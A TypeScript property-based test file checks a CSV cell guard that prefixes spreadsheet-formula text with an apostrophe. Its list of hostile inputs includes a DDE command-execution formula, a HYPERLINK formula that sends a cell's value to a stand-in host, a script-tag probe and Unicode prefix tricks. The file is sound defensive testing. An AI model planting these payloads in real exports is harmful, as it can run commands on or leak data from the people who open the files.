import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvRow, guarded, unguarded } from './cells.ts';

/** Texts that people use to make a spreadsheet do something. */
export const HOSTILE = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '\u202e=1', '\ufeff=1', '＝1+1', '＋1', '－1', '＠x', "'=1", "''=1", "' =1", '-', '=', "'", '',
  '=HYPERLINK("http://example.com?x="&A1,"click")', '=cmd|\' /C calc\'!A0', 'a;=1+1', 'a\t=1', 'a|=1', 'a,"=1', '"=1', '"\r\n=1"', '<script>alert(1)</script>', 'a\u0000b',
];

test('what a spreadsheet would run as a formula gets an apostrophe, and nothing else does', () => {
  const runs = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '\u200b=1', '\u202e=1', '＝1+1', '＋1', '－1', '＠x', "'=1", '-', '=HYPERLINK("x")', '+49 30 1234', '\tplain'];
  for (const text of runs) expect(guarded(text)).toBe(`'${text}`);
  for (const text of ['', "'", 'a=1', 'Käse', "it's", "'quoted'", '5', '-5', '+5', '-5.25', '1e5', 'a@example.com', '日本']) expect(guarded(text)).toBe(text);
});

test('every row is read as it was written, however hostile its cells, and no cell leaks into its neighbour', () => {
  const text = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\t', '\r', '\n', ' ', '＝', '\u202e', '1', 'a') }), fc.constantFrom(...HOSTILE));
  fc.assert(fc.property(fc.array(text, { minLength: 2, maxLength: 6 }), (cells) => {
    const [row] = parse(csvRow(cells)) as string[][];
    expect(row?.map(unguarded)).toEqual(cells);
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[\s=+\-@＝＋－＠]*[=+@＝＋－＠](?!\d+(?:[.,]\d+)?$)/u);
  }), { numRuns: 150 });
});
